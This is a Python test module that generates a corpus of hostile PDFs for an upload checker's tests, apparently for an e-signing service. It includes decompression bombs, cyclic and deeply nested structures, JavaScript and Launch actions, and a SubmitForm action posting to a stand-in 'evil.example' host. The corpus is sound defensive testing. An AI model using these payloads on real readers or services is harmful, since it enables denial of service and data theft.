"""Hostile PDFs, made when the tests run (no binary files are checked in).

Each `Case` builds its bytes and says what the upload check must answer: a refusal code,
or None for a file that must be accepted and then go all the way (sent, sealed, signed,
completed). Most files are written byte by byte (`raw_pdf`, `incremental_update`) since no
PDF tool writes them; the rest come from pyHanko and pypdf.

`python -m tests.webapp.pdf.hostile_corpus DIRECTORY` writes the corpus out, to look at.
"""

from __future__ import annotations

import datetime
import functools
import io
import os
import re
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography.hazmat.primitives import serialization
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.writer import PdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko_certvalidator.registry import SimpleCertificateStore
from pypdf import PdfReader, PdfWriter

from jpkisim import pki_builder

MiB = 1024 * 1024
CONTENT = b"BT /F1 14 Tf 72 760 Td (Service agreement) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


@dataclass(frozen=True)
class Case:
    """One hostile (or merely unusual) file and what the check must say of it."""

    name: str
    build: Callable[[], bytes]
    refused_with: str | None
    """The refusal code, or None: accepted, and it must go through the whole flow."""
    slow: bool = False
    """Takes seconds to build or check (large bombs): left out of the service-level runs."""


# --- writing PDFs byte by byte ------------------------------------------------------------


def stream(data: bytes, extra: bytes = b"", *, flate: bool = False) -> bytes:
    """The body of a stream object (`extra` goes into its dictionary)."""
    if flate:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def raw_pdf(
    objects: dict[int, bytes], *, root: int = 1, trailer: bytes = b"", version: bytes = b"1.7"
) -> bytes:
    """A PDF of these objects (number -> body) with a classic cross-reference table."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = _write_objects(out, objects)
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        if number in offsets:
            out += b"%010d 00000 n \n" % offsets[number]
        else:
            out += b"0000000000 00001 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\n" % (size, root, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def incremental_update(base: bytes, objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """`base` plus an incremental update that (re)defines `objects`."""
    previous = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    size = max(int(n) for n in re.findall(rb"/Size (\d+)", base))
    out = bytearray(base)
    offsets = _write_objects(out, objects)
    size = max(size, max(objects) + 1)
    xref = len(out)
    out += b"xref\n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size, root, previous)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def xref_stream_pdf(
    objects: dict[int, bytes], in_streams: dict[int, tuple[int, int]], *, root: int = 1
) -> bytes:
    """A PDF with a cross-reference stream; `in_streams` maps objects kept in object streams
    to (stream number, index)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = _write_objects(out, objects)
    xref_number = max([*objects, *in_streams]) + 1
    xref_offset = len(out)
    offsets[xref_number] = xref_offset
    rows = bytearray()
    for number in range(xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in in_streams:
            stream_number, index = in_streams[number]
            rows += b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += b"\x00" + bytes(4) + b"\xff\xff"
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n" % (
        xref_number, xref_number + 1, root, len(rows))  # fmt: skip
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def _write_objects(out: bytearray, objects: dict[int, bytes]) -> dict[int, int]:
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    return offsets


def one_page(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    media_box: bytes = b"/MediaBox [0 0 595 842]",
    extra: dict[int, bytes] | None = None,
) -> dict[int, bytes]:
    """The objects of a one-page contract; `catalog` and `page` add entries (numbers 1-5)."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R %s /Resources << /Font << /F1 5 0 R >> >> "
        b"/Contents 4 0 R %s >>" % (media_box, page),
        4: stream(CONTENT),
        5: FONT,
    } | (extra or {})


def plain() -> bytes:
    return raw_pdf(one_page())


# --- refused: the frame of the file --------------------------------------------------------


def truncated() -> bytes:
    data = plain()
    return data[: len(data) * 2 // 3]


def garbage() -> bytes:
    return os.urandom(64 * 1024)


def header_then_garbage() -> bytes:
    return b"%PDF-1.7\n" + os.urandom(64 * 1024) + b"\n%%EOF\n"


def junk_after_eof(size: int) -> Callable[[], bytes]:
    def build() -> bytes:
        return plain() + b"A" * size

    return build


def random_junk_after_eof() -> bytes:
    return plain() + os.urandom(4 * MiB)


def block_padding_after_eof() -> bytes:
    """511 NULs: the most that padding to a 512-byte block adds, as some scanners do
    (accepted: pyHanko still finds %%EOF)."""
    return plain() + bytes(511)


def just_over_the_padding_limit() -> bytes:
    return plain() + b" " * 513


def short_padding_after_eof() -> bytes:
    """What some mail gateways and old tools add: a few NULs and newlines (accepted)."""
    return plain() + b"\x00" * 100 + b"\r\n" * 20


def long_first_line_before_eof() -> bytes:
    """4 MiB on the line before %%EOF: pyHanko reads it backwards a byte at a time."""
    data = plain()
    return data[: -len(b"%%EOF\n")] + b"%" + b"A" * (4 * MiB) + b"\n%%EOF\n"


def startxref_into_nowhere() -> bytes:
    data = plain()
    return re.sub(rb"startxref\n\d+", b"startxref\n999999", data)


def wrong_xref_offsets() -> bytes:
    data = bytearray(plain())
    at = data.index(b"xref\n0 6\n") + len(b"xref\n0 6\n") + 20  # object 1's entry
    data[at : at + 10] = b"%010d" % 30
    return bytes(data)


def xref_loop() -> bytes:
    """An incremental update whose /Prev points at its own cross-reference section."""
    data = incremental_update(plain(), {4: stream(CONTENT + b" % changed")})
    own = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    return re.sub(rb"/Prev \d+", b"/Prev %d" % own, data)


def zero_width_xref_stream() -> bytes:
    """An xref stream whose entries take no bytes: 100 million objects from nothing."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = _write_objects(out, one_page())
    del offsets
    xref = len(out)
    out += b"6 0 obj\n<< /Type /XRef /Size 100000000 /W [0 0 0] /Root 1 0 R /Length 0 >>\n"
    out += b"stream\n\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def zero_width_xref_stream_small() -> bytes:
    """Zero-width entries for a plausible number of objects."""
    return zero_width_xref_stream().replace(b"/Size 100000000", b"/Size 90000")


def comment_at_end_of_object_stream() -> bytes:
    """An object stream ending inside a comment: pyHanko's parser waits for the end of the
    line for ever (a loop that reads no file: only the sandbox ends it)."""
    objstm = stream(b"7 0 %", b"/Type /ObjStm /N 1 /First 4")
    return xref_stream_pdf(one_page(extra={6: objstm}), {7: (6, 0)})


def object_stream_pages() -> bytes:
    """The page tree in an uncompressed object stream, through a hand-made xref stream."""
    body = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    objstm = stream(b"2 0 " + body, b"/Type /ObjStm /N 1 /First 4")
    objects = one_page(extra={6: objstm})
    del objects[2]
    return xref_stream_pdf(objects, {2: (6, 0)})


# --- refused: encryption, signatures --------------------------------------------------------


def encrypted(password: str, algorithm: str) -> Callable[[], bytes]:
    def build() -> bytes:
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain())))
        writer.encrypt(password, "owner-secret", algorithm=algorithm)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    return build


def _throwaway_signer() -> signers.SimpleSigner:
    key = pki_builder.new_ec_key()
    now = datetime.datetime.now(datetime.UTC)
    cert = pki_builder.issue(
        pki_builder.common_name("Hostile Author"), key, not_before=now - datetime.timedelta(days=1),
        not_after=now + datetime.timedelta(days=30), ca=None, key_ids=False,
    )  # fmt: skip
    return signers.SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER)),
        signing_key=asn1_keys.PrivateKeyInfo.load(pki_builder.key_to_der(key)),
        cert_registry=SimpleCertificateStore(),
    )


def signed(*, certify: bool) -> Callable[[], bytes]:
    """Signed outside the service; `certify`: an author signature allowing no change."""

    def build() -> bytes:
        metadata = signers.PdfSignatureMetadata(
            field_name="Author",
            certify=certify,
            docmdp_permissions=fields.MDPPerm.NO_CHANGES,
        )
        out = io.BytesIO()
        signers.sign_pdf(
            IncrementalPdfFileWriter(io.BytesIO(plain())),
            metadata,
            signer=_throwaway_signer(),
            output=out,
        )
        return out.getvalue()

    return build


# --- refused: bombs -------------------------------------------------------------------------


@functools.cache
def _flate_zeros(size: int) -> bytes:
    """`size` zero bytes, Flate-compressed in pieces (1 GiB compresses to about 1 MiB;
    made once per run, it takes seconds)."""
    compressor = zlib.compressobj(9)
    piece = bytes(4 * MiB)
    parts = [compressor.compress(piece) for _ in range(size // len(piece))]
    parts.append(compressor.compress(bytes(size % len(piece))))
    parts.append(compressor.flush())
    return b"".join(parts)


def flate_stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (
        len(data),
        extra,
        data,
    )


def metadata_bomb(size: int) -> Callable[[], bytes]:
    def build() -> bytes:
        metadata = flate_stream(_flate_zeros(size), b"/Type /Metadata /Subtype /XML")
        return raw_pdf(one_page(catalog=b"/Metadata 6 0 R", extra={6: metadata}))

    return build


def content_bomb() -> bytes:
    """A page whose content stream inflates to 1 GiB of zeros."""
    return raw_pdf(one_page() | {4: flate_stream(_flate_zeros(1024 * MiB))})


def double_flate_content_bomb() -> bytes:
    """Flate over Flate: the 1 GiB bomb compressed once more, 2 KB in the file."""
    inner = _flate_zeros(1024 * MiB)
    outer = zlib.compress(inner, 9)
    body = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (
        len(outer),
        outer,
    )
    return raw_pdf(one_page() | {4: body})


def object_stream_bomb() -> bytes:
    """An object stream that inflates to 1 GiB."""
    objstm = flate_stream(_flate_zeros(1024 * MiB), b"/Type /ObjStm /N 1 /First 4")
    return raw_pdf(one_page(extra={6: objstm}))


# --- refused: depth, chains, cycles, counts -------------------------------------------------


def deep_page_tree(depth: int) -> Callable[[], bytes]:
    """One page at the bottom of `depth` nested /Pages nodes."""

    def build() -> bytes:
        objects = {1: b"<< /Type /Catalog /Pages 10 0 R >>", 4: stream(CONTENT), 5: FONT}
        for level in range(depth):
            number = 10 + level
            parent = b"/Parent %d 0 R" % (number - 1) if level else b""
            objects[number] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 %s >>" % (
                number + 1,
                parent,
            )
        leaf = 10 + depth
        objects[leaf] = (
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>" % (leaf - 1)
        )
        objects[10] = objects[10].replace(b"/Count 1", b"/Count 1 /MediaBox [0 0 595 842]")
        return raw_pdf(objects)

    return build


def media_box_chain(length: int) -> Callable[[], bytes]:
    """/MediaBox reached through `length` references to references."""

    def build() -> bytes:
        extra = {100 + i: b"%d 0 R" % (101 + i) for i in range(length)}
        extra[100 + length] = b"[0 0 595 842]"
        return raw_pdf(one_page(media_box=b"/MediaBox 100 0 R", extra=extra))

    return build


def self_referencing_media_box() -> bytes:
    return raw_pdf(one_page(media_box=b"/MediaBox 6 0 R", extra={6: b"6 0 R"}))


def nested_arrays(depth: int) -> Callable[[], bytes]:
    def build() -> bytes:
        return raw_pdf(one_page(page=b"/Nested " + b"[" * depth + b"]" * depth))

    return build


def cyclic_page_tree() -> bytes:
    objects = one_page()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"
    return raw_pdf(objects)


def parent_cycle() -> bytes:
    """The page's /Parent is the page itself: stamping followed it for ever."""
    objects = one_page(media_box=b"")
    objects[3] = objects[3].replace(b"/Parent 2 0 R", b"/Parent 3 0 R")
    return raw_pdf(objects)


def huge_count() -> bytes:
    objects = one_page()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"
    return raw_pdf(objects)


def shared_page() -> bytes:
    objects = one_page()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>"
    return raw_pdf(objects)


def missing_media_box() -> bytes:
    return raw_pdf(one_page(media_box=b""))


def broken_media_box() -> bytes:
    return raw_pdf(one_page(media_box=b"/MediaBox [0 0 (wide) 842]"))


def unknown_node_type() -> bytes:
    objects = one_page()
    objects[3] = objects[3].replace(b"/Type /Page ", b"/Type /Leaf ")
    return raw_pdf(objects)


def no_pages() -> bytes:
    objects = one_page()
    objects[2] = b"<< /Type /Pages /Kids [] /Count 0 >>"
    return raw_pdf(objects)


def deep_form(depth: int) -> Callable[[], bytes]:
    def build() -> bytes:
        extra = {}
        for level in range(depth):
            kids = b"/Kids [%d 0 R]" % (101 + level) if level < depth - 1 else b""
            extra[100 + level] = b"<< /T (f%d) /FT /Tx %s >>" % (level, kids)
        return raw_pdf(one_page(catalog=b"/AcroForm << /Fields [100 0 R] >>", extra=extra))

    return build


def cyclic_form() -> bytes:
    extra = {6: b"<< /T (loop) /FT /Tx /Kids [6 0 R] >>"}
    return raw_pdf(one_page(catalog=b"/AcroForm << /Fields [6 0 R] >>", extra=extra))


def reserved_field_name() -> bytes:
    extra = {6: b"<< /T (mynasign-sent) /FT /Tx >>"}
    return raw_pdf(one_page(catalog=b"/AcroForm << /Fields [6 0 R] >>", extra=extra))


def cyclic_attachment_tree() -> bytes:
    extra = {6: b"<< /Kids [6 0 R] >>"}
    return raw_pdf(one_page(catalog=b"/Names << /EmbeddedFiles 6 0 R >>", extra=extra))


# --- refused: active content ---------------------------------------------------------------


def action(body: bytes) -> Callable[[], bytes]:
    """The document opens with this action."""

    def build() -> bytes:
        return raw_pdf(one_page(catalog=b"/OpenAction 6 0 R", extra={6: body}))

    return build


def link(body: bytes) -> Callable[[], bytes]:
    """A link on page 1 runs this action."""

    def build() -> bytes:
        annot = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A %s >>" % body
        return raw_pdf(one_page(page=b"/Annots [6 0 R]", extra={6: annot}))

    return build


def javascript_name_tree() -> bytes:
    extra = {
        6: b"<< /Names [(init) 7 0 R] >>",
        7: b"<< /S /JavaScript /JS (app.alert('hi')) >>",
    }
    return raw_pdf(one_page(catalog=b"/Names << /JavaScript 6 0 R >>", extra=extra))


def javascript_escaped_name() -> bytes:
    """/S /J#61vaScript is /S /JavaScript to every reader."""
    return raw_pdf(one_page(catalog=b"/OpenAction << /S /J#61vaScript /JS (1) >>"))


def javascript_indirect_type() -> bytes:
    """The action's /S is a reference to the name."""
    return raw_pdf(one_page(catalog=b"/OpenAction << /S 6 0 R /JS 7 0 R >>", extra={
        6: b"/JavaScript", 7: stream(b"app.alert(1)")}))  # fmt: skip


def javascript_page_action() -> bytes:
    return raw_pdf(one_page(page=b"/AA << /O << /S /JavaScript /JS (1) >> >>"))


def xfa_form() -> bytes:
    extra = {6: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")}
    return raw_pdf(one_page(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", extra=extra))


def rich_media() -> bytes:
    annot = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"
    return raw_pdf(one_page(page=b"/Annots [6 0 R]", extra={6: annot}))


def javascript_in_object_stream() -> bytes:
    """The script sits compressed in an object stream (pyHanko writes it so)."""
    writer = PdfFileWriter(stream_xrefs=True)
    objstm = writer.prepare_object_stream()
    script = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("1")}
    )
    writer.root[pdf_name("/OpenAction")] = writer.add_object(script, obj_stream=objstm)
    _add_page(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def javascript_in_earlier_revision() -> bytes:
    """Revision 1 opens with a script; revision 2 drops it (the object is still there)."""
    first = raw_pdf(
        one_page(catalog=b"/OpenAction 6 0 R", extra={6: b"<< /S /JavaScript /JS (1) >>"})
    )
    return incremental_update(first, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})


def javascript_added_by_update() -> bytes:
    return incremental_update(
        plain(), {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (1) >> >>"}
    )


# --- accepted: unusual but fine -------------------------------------------------------------


def _add_page(writer: PdfFileWriter, text: bytes = CONTENT) -> None:
    font = writer.add_object(generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"),
    }))  # fmt: skip
    page = generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Page"),
        pdf_name("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
        pdf_name("/Resources"): generic.DictionaryObject(
            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
        ),
        pdf_name("/Contents"): writer.add_object(generic.StreamObject(stream_data=text)),
    })  # fmt: skip
    writer.insert_page(page)


def object_streams_many_pages() -> bytes:
    """30 pages with every dictionary in object streams and an xref stream."""
    writer = PdfFileWriter(stream_xrefs=True)
    for number in range(30):
        _add_page(writer, b"BT /F1 14 Tf 72 760 Td (Page %d) Tj ET" % number)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_attachment() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain())))
    writer.add_attachment("terms.txt", b"General terms and conditions\n" * 100)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def web_link() -> bytes:
    return link(b"<< /S /URI /URI (https://example.com/terms) >>")()


def benign_update_replacing_content() -> bytes:
    """An update that changes what page 1 shows: recipients see (and sign) the latest."""
    return incremental_update(plain(), {4: stream(b"BT /F1 14 Tf 72 760 Td (Amended) Tj ET")})


def inherited_media_box() -> bytes:
    objects = one_page(media_box=b"")
    objects[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>"
    return raw_pdf(objects)


def empty_signature_field() -> bytes:
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sign here) /Rect [0 0 0 0] /P 3 0 R >>"
    return raw_pdf(
        one_page(
            catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [6 0 R]", extra={6: widget}
        )
    )


def moderate_flate_content() -> bytes:
    """A page stream that inflates to 50 MiB: big, but no bomb."""
    return raw_pdf(one_page() | {4: flate_stream(_flate_zeros(50 * MiB))})


def goto_embedded_without_file() -> bytes:
    return link(b"<< /S /GoToE /T << /R /C /N (terms.txt) >> /NewWindow true >>")()


CASES: list[Case] = [
    # the frame of the file
    Case("truncated", truncated, "damaged"),
    Case("garbage", garbage, "not_pdf"),
    Case("header-then-garbage", header_then_garbage, "damaged"),
    Case("junk-after-eof-1mib", junk_after_eof(MiB), "trailing_data"),
    Case("junk-after-eof-4mib", junk_after_eof(4 * MiB), "trailing_data"),
    Case("junk-after-eof-20mib", junk_after_eof(20 * MiB), "trailing_data", slow=True),
    Case("random-junk-after-eof", random_junk_after_eof, "trailing_data"),
    Case("513-spaces-after-eof", just_over_the_padding_limit, "trailing_data"),
    Case("long-line-before-eof", long_first_line_before_eof, "damaged"),
    Case("startxref-into-nowhere", startxref_into_nowhere, "damaged"),
    Case("wrong-xref-offsets", wrong_xref_offsets, "damaged"),
    Case("xref-prev-loop", xref_loop, "damaged"),
    Case("zero-width-xref-stream", zero_width_xref_stream, "too_many_objects"),
    Case("zero-width-xref-stream-small", zero_width_xref_stream_small, "damaged"),
    Case(
        "comment-at-end-of-object-stream", comment_at_end_of_object_stream, "too_complex", slow=True
    ),
    # encryption and signatures
    Case("encrypted-aes256-empty-password", encrypted("", "AES-256"), "encrypted"),
    Case("encrypted-rc4-password", encrypted("secret", "RC4-128"), "encrypted"),
    Case("docmdp-no-changes", signed(certify=True), "locked_by_signature"),
    Case("signed-elsewhere", signed(certify=False), "signed"),
    # bombs
    Case("metadata-bomb-50mb", metadata_bomb(50 * MiB), "stream_too_large"),
    Case("metadata-bomb-1gb", metadata_bomb(1024 * MiB), "stream_too_large", slow=True),
    Case("content-bomb-1gb", content_bomb, "stream_too_large", slow=True),
    Case("double-flate-content-bomb", double_flate_content_bomb, "stream_too_large", slow=True),
    Case("object-stream-bomb", object_stream_bomb, "stream_too_large", slow=True),
    # depth, chains, cycles, counts
    Case("page-tree-5000-deep", deep_page_tree(5000), "structure_too_deep"),
    Case("page-tree-40-deep", deep_page_tree(40), "structure_too_deep"),
    Case("media-box-chain-3000", media_box_chain(3000), "structure_too_deep"),
    Case("media-box-chain-20", media_box_chain(20), "structure_too_deep"),
    Case("self-referencing-media-box", self_referencing_media_box, "structure_too_deep"),
    Case("nested-arrays-100000", nested_arrays(100_000), "structure_too_deep"),
    Case("nested-arrays-100", nested_arrays(100), "structure_too_deep"),
    Case("page-tree-cycle", cyclic_page_tree, "page_tree_invalid"),
    Case("parent-cycle", parent_cycle, "page_tree_invalid"),
    Case("huge-count", huge_count, "page_tree_invalid"),
    Case("page-listed-twice", shared_page, "page_tree_invalid"),
    Case("no-media-box", missing_media_box, "page_tree_invalid"),
    Case("broken-media-box", broken_media_box, "page_tree_invalid"),
    Case("unknown-node-type", unknown_node_type, "page_tree_invalid"),
    Case("no-pages", no_pages, "empty"),
    Case("form-5000-deep", deep_form(5000), "structure_too_deep"),
    Case("form-cycle", cyclic_form, "form_invalid"),
    Case("form-field-named-like-ours", reserved_field_name, "form_invalid"),
    Case("attachment-tree-cycle", cyclic_attachment_tree, "damaged"),
    # active content
    Case(
        "javascript-open-action",
        action(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "active_content",
    ),
    Case(
        "launch-cmd",
        action(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "active_content",
    ),
    Case(
        "submit-form",
        link(b"<< /S /SubmitForm /F (https://evil.example/collect) >>"),
        "active_content",
    ),
    Case("import-data", link(b"<< /S /ImportData /F (data.fdf) >>"), "active_content"),
    Case(
        "goto-remote-unc",
        link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        "active_content",
    ),
    Case(
        "goto-embedded-outside-file",
        link(b"<< /S /GoToE /F (other.pdf) /D [0 /Fit] >>"),
        "active_content",
    ),
    Case("javascript-name-tree", javascript_name_tree, "active_content"),
    Case("javascript-escaped-name", javascript_escaped_name, "active_content"),
    Case("javascript-indirect-type", javascript_indirect_type, "active_content"),
    Case("javascript-page-action", javascript_page_action, "active_content"),
    Case("javascript-in-object-stream", javascript_in_object_stream, "active_content"),
    Case("javascript-in-earlier-revision", javascript_in_earlier_revision, "active_content"),
    Case("javascript-added-by-update", javascript_added_by_update, "active_content"),
    Case("xfa", xfa_form, "active_content"),
    Case("rich-media", rich_media, "active_content"),
    # accepted, and they must go all the way
    Case("plain", plain, None),
    Case("short-padding-after-eof", short_padding_after_eof, None),
    Case("block-padding-after-eof", block_padding_after_eof, None),
    Case("object-streams-30-pages", object_streams_many_pages, None),
    Case("hand-made-xref-stream", object_stream_pages, None),
    Case("with-attachment", with_attachment, None),
    Case("web-link", web_link, None),
    Case("goto-embedded-inside", goto_embedded_without_file, None),
    Case("update-replacing-content", benign_update_replacing_content, None),
    Case("inherited-media-box", inherited_media_box, None),
    Case("empty-signature-field", empty_signature_field, None),
    Case("media-box-chain-3", media_box_chain(3), None),
    Case("page-tree-30-deep", deep_page_tree(30), None),
    Case("moderate-flate-content", moderate_flate_content, None, slow=True),
]

BY_NAME = {case.name: case for case in CASES}
ACCEPTED = [case for case in CASES if case.refused_with is None]
REFUSED = [case for case in CASES if case.refused_with is not None]


@functools.cache
def corpus_file(name: str) -> bytes:
    """The bytes of one case, built once per run."""
    return BY_NAME[name].build()


def main(directory: str) -> None:
    target = Path(directory)
    target.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        (target / f"{case.name}.pdf").write_bytes(corpus_file(case.name))


if __name__ == "__main__":
    main(sys.argv[1])
